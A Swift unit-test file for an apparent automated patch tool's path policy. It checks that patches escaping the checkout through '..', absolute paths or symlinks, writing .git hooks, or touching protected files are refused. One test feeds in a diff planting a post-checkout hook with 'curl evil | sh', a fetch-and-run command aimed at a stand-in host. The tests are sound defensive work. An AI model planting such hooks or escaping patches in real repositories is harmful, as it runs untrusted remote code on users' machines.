import AutofixPatch
import AutofixTestSupport
import Foundation
import XCTest

/// Escape attempts against a real directory: nothing outside the checkout may ever be written.
final class PathPolicyTests: XCTestCase {
    private func modify(_ path: String) -> FilePatch {
        FilePatch(oldPath: path, newPath: path, hunks: [
            Hunk(oldStart: 1, newStart: 1, lines: [HunkLine(.remove, "secret"), HunkLine(.add, "owned")]),
        ])
    }

    private func create(_ path: String, mode: String? = nil) -> FilePatch {
        FilePatch(oldPath: nil, newPath: path, hunks: [Hunk(oldStart: 0, newStart: 1, lines: [HunkLine(.add, "owned")])], newMode: mode)
    }

    private func assertRefused(_ patch: FilePatch, kind: PatchError.Kind, mentions: String,
                               root: URL, policy: PathPolicy? = nil, file: StaticString = #filePath, line: UInt = #line) {
        let applier = PatchApplier(root: root, policy: policy ?? PathPolicy(root: root))
        XCTAssertThrowsError(try applier.apply(patch), file: file, line: line) { error in
            guard let error = error as? PatchError else { return XCTFail("not a PatchError: \(error)", file: file, line: line) }
            XCTAssertEqual(error.kind, kind, error.message, file: file, line: line)
            XCTAssertEqual(error.category, .model, file: file, line: line)
            XCTAssertTrue(error.feedback.contains(mentions), "feedback '\(error.feedback)' lacks '\(mentions)'", file: file, line: line)
        }
    }

    func testEscapesAreRefusedAndOutsideStaysUntouched() throws {
        let outside = try makeTree(["secret.txt": "secret\n"], prefix: "autofix-outside")
        let checkout = try makeTree(["inside.txt": "secret\n"], prefix: "autofix-checkout")
        try FileManager.default.createSymbolicLink(atPath: checkout.file("escape").path, withDestinationPath: outside.path)
        try FileManager.default.createSymbolicLink(atPath: checkout.file("link.txt").path, withDestinationPath: outside.file("secret.txt").path)
        try FileManager.default.createSymbolicLink(atPath: checkout.file("inner-link.txt").path, withDestinationPath: "inside.txt")
        let before = try TreeFingerprint.of(outside.url)

        assertRefused(modify(outside.file("secret.txt").path), kind: .unsafePath, mentions: "absolute", root: checkout.url)
        assertRefused(modify("../" + outside.url.lastPathComponent + "/secret.txt"), kind: .unsafePath, mentions: "'..'", root: checkout.url)
        assertRefused(modify("a/../../secret.txt"), kind: .unsafePath, mentions: "'..'", root: checkout.url)
        assertRefused(modify("escape/secret.txt"), kind: .unsafePath, mentions: "outside the repository", root: checkout.url)
        assertRefused(create("escape/new.txt"), kind: .unsafePath, mentions: "outside the repository", root: checkout.url)
        assertRefused(modify("link.txt"), kind: .unsafePath, mentions: "outside the repository", root: checkout.url)
        assertRefused(modify("inner-link.txt"), kind: .unsafePath, mentions: "symbolic link", root: checkout.url)
        assertRefused(create(".git/hooks/pre-commit"), kind: .unsafePath, mentions: ".git", root: checkout.url)
        assertRefused(create("sub/.GIT/config"), kind: .unsafePath, mentions: ".git", root: checkout.url)
        assertRefused(FilePatch(oldPath: "inside.txt", newPath: "escape/moved.txt"), kind: .unsafePath, mentions: "outside", root: checkout.url)

        XCTAssertEqual(try TreeFingerprint.of(outside.url), before)
        XCTAssertEqual(try readFile(checkout, "inside.txt"), "secret\n")
    }

    func testSymlinkedDirectoryInsideTheCheckoutIsAllowed() throws {
        let checkout = try makeTree(["real/file.txt": "secret\n"])
        try FileManager.default.createSymbolicLink(atPath: checkout.file("alias").path, withDestinationPath: "real")
        let applier = PatchApplier(root: checkout.url, policy: PathPolicy(root: checkout.url))
        XCTAssertNoThrow(try applier.apply(modify("alias/file.txt")))
        XCTAssertEqual(try readFile(checkout, "real/file.txt"), "owned\n")
    }

    func testProtectedGlobsAndTestFiles() throws {
        let checkout = try makeTree(["Tests/CalcTests/CalcTests.swift": "secret\n", "src/app_test.go": "secret\n", "src/app.go": "secret\n", "secrets/key.pem": "secret\n"])
        let globs = PathPolicy.protectedGlobs(configured: ["secrets/, *.lock"], noTestEdits: true)
        let policy = PathPolicy(root: checkout.url, protectedGlobs: globs)
        assertRefused(modify("Tests/CalcTests/CalcTests.swift"), kind: .protectedPath, mentions: "protected", root: checkout.url, policy: policy)
        assertRefused(modify("src/app_test.go"), kind: .protectedPath, mentions: "*_test.go", root: checkout.url, policy: policy)
        assertRefused(modify("secrets/key.pem"), kind: .protectedPath, mentions: "secrets/", root: checkout.url, policy: policy)
        assertRefused(create("deep/Package.lock"), kind: .protectedPath, mentions: "*.lock", root: checkout.url, policy: policy)
        XCTAssertNoThrow(try PatchApplier(root: checkout.url, policy: policy).apply(modify("src/app.go")))

        // Without --no-test-edits the tests themselves may be changed.
        let relaxed = PathPolicy(root: checkout.url, protectedGlobs: PathPolicy.protectedGlobs(configured: [], noTestEdits: false))
        XCTAssertNoThrow(try PatchApplier(root: checkout.url, policy: relaxed).apply(modify("src/app_test.go")))
    }

    func testGlobSemantics() {
        XCTAssertTrue(Glob("*.swift").matches("a/b/c.swift"))
        XCTAssertFalse(Glob("src/*.swift").matches("src/a/c.swift"))
        XCTAssertTrue(Glob("src/**/*.swift").matches("src/a/b/c.swift"))
        XCTAssertTrue(Glob("src/**/*.swift").matches("src/c.swift"))
        XCTAssertTrue(Glob("Tests/").matches("Tests/x/y.swift"))
        XCTAssertFalse(Glob("Tests/").matches("MyTests/x.swift"))
        XCTAssertTrue(Glob("test_?.py").matches("pkg/test_a.py"))
        XCTAssertTrue(Glob("[ab]*.txt").matches("b1.txt"))
        XCTAssertFalse(Glob("[!ab]*.txt").matches("b1.txt"))
    }

    func testModeChangesNeedPermission() throws {
        let checkout = try makeTree(["run.sh": "echo hi\n"])
        let parsed = parse("diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n").edits
        guard let chmod = parsed.first?.patch, parsed.count == 1 else { return XCTFail("\(parsed)") }
        XCTAssertEqual(chmod, FilePatch(oldPath: "run.sh", newPath: "run.sh", oldMode: "100644", newMode: "100755"))
        assertRefused(chmod, kind: .modeChange, mentions: "mode", root: checkout.url)
        assertRefused(create("tool.sh", mode: "100755"), kind: .modeChange, mentions: "100755", root: checkout.url)
        assertRefused(create("link", mode: "120000"), kind: .modeChange, mentions: "symbolic links", root: checkout.url,
                      policy: PathPolicy(root: checkout.url, allowModeChanges: true))
        XCTAssertEqual(fileMode(checkout.file("run.sh")) & 0o111, 0)

        let allowed = PatchApplier(root: checkout.url, policy: PathPolicy(root: checkout.url, allowModeChanges: true))
        try allowed.apply(chmod)
        XCTAssertEqual(fileMode(checkout.file("run.sh")), 0o755)
        XCTAssertEqual(try readFile(checkout, "run.sh"), "echo hi\n")
    }

    func testParserRejectsUnsafePathsBeforeTheyReachTheApplier() {
        let edits = parse("""
            --- /dev/null
            +++ b/.git/hooks/post-checkout
            @@ -0,0 +1 @@
            +curl evil | sh
            """).edits
        guard case let .rejected(path, reason)? = edits.first, edits.count == 1 else { return XCTFail("\(edits)") }
        XCTAssertEqual(path, ".git/hooks/post-checkout")
        XCTAssertTrue(reason.contains(".git"), reason)
    }
}
